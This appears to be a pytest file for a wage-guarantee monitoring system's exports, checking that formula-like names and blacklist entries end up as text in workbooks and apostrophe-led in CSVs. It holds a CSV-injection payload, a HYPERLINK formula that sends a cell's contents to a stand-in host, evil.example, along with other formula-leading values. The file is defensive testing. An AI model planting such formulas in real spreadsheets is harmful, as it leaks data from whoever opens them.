"""Text from the sources that reads like a spreadsheet formula is published as
text: the workbooks hold it in text cells, the CSVs meant for spreadsheets lead
it with ' (OWASP, CSV injection), entries.jsonl keeps it exactly as listed."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import json
import re
import unicodedata

import pytest
from conftest import run_night_in_process
from sqlalchemy import text
from wageguard.exports.blacklist import export_blacklist
from wageguard.exports.district_lists import HEADER, DistrictLists
from wageguard.exports.engineer_reports import write_links, write_resolution
from wageguard.exports.files import FORMULA_LEADS, sha256_of
from wageguard.exports.flag_list import (
    Figures,
    OpenFlag,
    ResolvedFlag,
    Summary,
    TrendNight,
    write_flags_csv,
)
from wageguard.identity import normalise_investment_code
from wageguard.rules.catalogue import load_rules
from wageguard.rules.params import load_params
from wageguard.warehouse.night import NightView
from wageguard_dev.demo.sources import running_sources

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此核实")'
# What hostile names look like once they are stored: the sources' text is
# trimmed on the way in, so a leading TAB or CR only reaches the writers below.
STORED_FORMS = (HYPERLINK, "=1+2", "+86 13800000000", "-1+2", "@SUM(1)")
EVERY_FORM = (*STORED_FORMS, "\t=1+2", "\r=1+2")
SPREADSHEET_CSVS = ("flags.csv", "resolution.csv", "links.csv", "blacklist/entries.csv",
                    "blacklist/changes.csv")
D = dt.date(2026, 11, 21)


def _csv_cells(path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [cell for row in list(csv.reader(f))[1:] for cell in row]


def _runnable(cell: str) -> bool:
    """What a spreadsheet would run: text led by a formula character (a number
    such as -3 is only a number)."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_LEADS)
    return False


def _neutralised(cells: list[str]) -> set[str]:
    """The text behind every cell led by ', having checked nothing runnable is left."""
    assert not [c for c in cells if _runnable(c)]
    return {c[1:] for c in cells if c.startswith("'")}


def _workbook_cells(path) -> list:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _as_read(value):
    """A cell's value as Excel reads it: openpyxl leaves the workbook's escape
    of a control character (_x000D_ for CR) as it is."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), value)


def _as_text(cells, planted) -> set[str]:
    """The planted values among the cells, having checked that no cell is a
    formula and each planted value sits in a text cell, as written."""
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    found = [c for c in cells if _as_read(c.value) in planted]
    assert all(c.data_type == "s" for c in found)
    return {_as_read(c.value) for c in found}


def _lead(value: str) -> str:
    return HYPERLINK if value.startswith(HYPERLINK[:10]) else value[0]


# A province where names, causes and identifiers carry formulas.

def _form(i: int, original: str) -> str:
    """Form i, kept apart from the other records' by the original text."""
    form = STORED_FORMS[i % len(STORED_FORMS)]
    return (HYPERLINK.replace("点此核实", original) if form == HYPERLINK
            else f"{form}{original}")


def _hostile(world):
    """Every third project's names and every applying dishonest entry's text
    spoilt, in every version; five linked projects and five entries renamed to
    a formula, in every record that names them."""
    ids = sorted({p["project_id"] for p in world.projects})
    spoilt = {pid: i for i, pid in enumerate(ids[::3])}
    known = {normalise_investment_code(r["项目代码"]) for r in world.investment_projects}
    tombstoned = {p["project_id"] for p in world.projects if p["deleted"]}
    linked = sorted({p["project_id"] for p in world.projects
                     if normalise_investment_code(p["investment_code"]) in known} - tombstoned)
    renamed = {pid: _form(i, pid) for i, pid in enumerate(linked[:len(STORED_FORMS)])}

    def project(p):
        if p["project_id"] in spoilt:
            i = spoilt[p["project_id"]]
            p = {**p, "name": p["name"] and _form(i, p["name"])}
            for n, party in enumerate(("builder", "contractor"), start=1):
                if p[party] and p[party]["name"]:
                    p[party] = {**p[party], "name": _form(i + n, p[party]["name"])}
        return {**p, "project_id": renamed.get(p["project_id"], p["project_id"])}

    def of_project(r):
        return {**r, "project_id": renamed.get(r["project_id"], r["project_id"])}

    day = world.run_date.isoformat()
    latest = {}
    for e in sorted(world.list_entries, key=lambda e: e["updated_at"]):
        latest[e["entry_id"]] = e
    applying = sorted(eid for eid, e in latest.items()
                      if e["list_type"] == "dishonest" and e["listed_on"] <= day < e["expires_on"]
                      and not e["removed_on"] and not e["deleted"])
    entry_forms = {eid: i for i, eid in enumerate(applying)}
    entry_ids = {eid: _form(i, eid) for i, eid in enumerate(applying[:len(STORED_FORMS)])}

    def entry(e):
        i = entry_forms.get(e["entry_id"])
        if i is None:
            return e
        spoilt_text = {column: e[column] and _form(i + n, e[column]) for n, column in enumerate(
            ("subject_name", "cause", "decision_no", "listing_authority"))}
        return {**e, **spoilt_text, "entry_id": entry_ids.get(e["entry_id"], e["entry_id"])}

    return dataclasses.replace(
        world,
        projects=[project(p) for p in world.projects],
        wage_accounts=[of_project(r) for r in world.wage_accounts],
        wage_deposits=[of_project(r) for r in world.wage_deposits],
        realname_monthly=[of_project(r) for r in world.realname_monthly],
        list_entries=[entry(e) for e in world.list_entries],
    )


def _planted(world) -> set[str]:
    """The spoilt texts as published: NFKC-normalised and trimmed, as every text is
    stored."""
    texts = set()
    for p in world.projects:
        texts |= {p["project_id"], p["name"]}
        texts |= {p[party]["name"] for party in ("builder", "contractor") if p[party]}
    for e in world.list_entries:
        texts |= {e[c] for c in ("entry_id", "subject_name", "cause", "decision_no",
                                 "listing_authority")}
    return {unicodedata.normalize("NFKC", t).strip() for t in texts
            if t and t.startswith(FORMULA_LEADS)}


@pytest.fixture
def hostile_night(warehouse_url, small_world, tmp_path, monkeypatch):
    world = _hostile(small_world)
    monkeypatch.setenv("WAGEGUARD_WAREHOUSE_URL", warehouse_url)
    monkeypatch.setenv("WAGEGUARD_OUTPUT_DIR", str(tmp_path / "out"))
    monkeypatch.setenv("WAGEGUARD_INBOX_DIR", str(tmp_path / "inbox"))
    with running_sources(world, workdir=tmp_path / "sources", ports=0,
                         clock=lambda: world.as_of) as running:
        run_night_in_process(world.run_date, running)
    return world, tmp_path / "out" / world.run_date.isoformat()


def test_a_hostile_province_is_published_as_text(hostile_night):
    world, folder = hostile_night
    planted = _planted(world)
    every_lead = {_lead(form) for form in STORED_FORMS}

    workbooks = sorted((folder / "lists").glob("*.xlsx"))
    assert workbooks
    shown = set().union(*(_as_text(_workbook_cells(path), planted) for path in workbooks))
    assert {_lead(v) for v in shown} == every_lead

    lists = sorted((folder / "lists").glob("*.csv"))
    listed = set().union(*(_neutralised(_csv_cells(path)) for path in lists))
    assert listed <= planted and {_lead(v) for v in listed} == every_lead
    for name in SPREADSHEET_CSVS:
        found = _neutralised(_csv_cells(folder / name))
        assert found <= planted, f"{name}: only planted text is quoted"
        assert {_lead(v) for v in found} == every_lead, name

    lines = (folder / "blacklist" / "entries.jsonl").read_text(encoding="utf-8").splitlines()
    exported = [json.loads(line) for line in lines]
    exact = {v for e in exported for v in e.values() if isinstance(v, str)} & planted
    assert {_lead(v) for v in exact} == every_lead
    assert not {v for e in exported for v in e.values()
                if isinstance(v, str) and v.startswith("'")}
    manifest = json.loads((folder / "blacklist" / "manifest.json").read_text(encoding="utf-8"))
    for f in manifest["files"]:
        assert sha256_of(folder / "blacklist" / f["name"]) == f["sha256"]


# Every form, TAB and CR included, through each writer.

def _flag(i: int, form: str) -> OpenFlag:
    return OpenFlag(
        project_id=f"ZJ150202-2026-9{i:04d}", rule="WA1", base_severity="red", severity="red",
        raised_on=D - dt.timedelta(days=40), days_open=40, overdue=True, new=False,
        district_code="150202", project_name=form, contractor_name=form,
        contractor_credit_code=None, builder_name=form, builder_credit_code=None,
        rule_version="1", disposition="verified", disposition_reason=form,
        disposition_inspector=form,
    )


def test_every_form_stays_text_in_the_district_lists_and_flags_csv(tmp_path):
    rules = {r.code: r for r in load_rules()}
    flags = [_flag(i, form) for i, form in enumerate(EVERY_FORM)]
    resolved = [ResolvedFlag(project_id=form, rule="WA1", raised_on=D, district_code="150202",
                             project_name=form) for form in EVERY_FORM]
    summary = Summary([Figures("district", "150202", None, "150200", "", listed=len(flags),
                               red=len(flags), overdue=len(flags), overdue_red=len(flags),
                               resolved=len(resolved))])
    trend = {("district", "150202"): [TrendNight(D, len(flags), 0, 0)]}
    view = NightView(D, "2026-11-22T01:00:00.000000+08:00", D, False)

    def lists(folder):
        district_lists = DistrictLists(folder, view, summary, resolved, trend, rules,
                                       load_params())
        for flag in flags:
            district_lists.add(flag)
        district_lists.close()
        return folder

    first, again = lists(tmp_path / "first"), lists(tmp_path / "again")
    for name in ("150202.xlsx", "150202.csv"):
        assert (first / name).read_bytes() == (again / name).read_bytes(), name

    cells = _workbook_cells(first / "150202.xlsx")
    assert _as_text(cells, set(EVERY_FORM)) == set(EVERY_FORM)
    days = [c for c in cells if c.parent.title == "预警清单" and c.row > 1
            and c.column == HEADER.index("已持续天数") + 1]
    assert [(c.data_type, c.value) for c in days] == [("n", 40)] * len(flags)
    assert _neutralised(_csv_cells(first / "150202.csv")) == set(EVERY_FORM)

    write_flags_csv(tmp_path / "flags.csv", flags)
    assert _neutralised(_csv_cells(tmp_path / "flags.csv")) == set(EVERY_FORM)
    with (tmp_path / "flags.csv").open(encoding="utf-8", newline="") as f:
        assert {r["days_open"] for r in csv.DictReader(f)} == {"40"}


def test_every_form_is_quoted_in_the_blacklist_and_engineer_files(engine, tmp_path):
    with engine.begin() as conn:
        for i, form in enumerate(EVERY_FORM):
            entry = {
                "run_date": D, "entry_id": form, "payload_hash": "h",
                "subject_type": "organization", "subject_name": form, "credit_code": None,
                "person_id_masked": None, "list_type": "dishonest", "cause": form,
                "decision_no": form, "listing_authority": form, "listed_on": dt.date(2026, 1, 1),
                "expires_on": dt.date(2029, 1, 1), "removed_on": None, "removal_reason": None,
            }
            conn.execute(text(f"INSERT INTO night_list_entry ({', '.join(entry)}) "
                              f"VALUES ({', '.join(':' + k for k in entry)})"), entry)
            project = f"ZJ150202-2026-9{i:04d}"
            conn.execute(text(
                "INSERT INTO night_party (run_date, project_id, role, name_as_typed, "
                "code_as_typed, status, detail) VALUES (:d, :p, 'builder', :f, :f, 'absent', :f)"),
                {"d": D, "p": project, "f": form})
            conn.execute(text("INSERT INTO night_link (run_date, project_id, investment_code) "
                              "VALUES (:d, :f, :f)"), {"d": D, "f": form})
        export_blacklist(conn, tmp_path / "blacklist", D)
        write_resolution(conn, tmp_path / "resolution.csv", D)
        write_links(conn, tmp_path / "links.csv", D)
        # Gone from the next night: each is removed with its previous fields.
        export_blacklist(conn, tmp_path / "removed", D + dt.timedelta(days=1))
    for name in ("resolution.csv", "links.csv", "blacklist/entries.csv", "blacklist/changes.csv",
                 "removed/changes.csv"):
        assert _neutralised(_csv_cells(tmp_path / name)) == set(EVERY_FORM), name
    lines = (tmp_path / "blacklist" / "entries.jsonl").read_text(encoding="utf-8").splitlines()
    exported = [json.loads(line) for line in lines]
    assert sorted(e["entry_id"] for e in exported) == sorted(EVERY_FORM)
    for e in exported:
        texts = (e["subject_name"], e["cause"], e["decision_no"], e["listing_authority"])
        assert texts == (e["entry_id"],) * 4, "entries.jsonl keeps the text as listed"
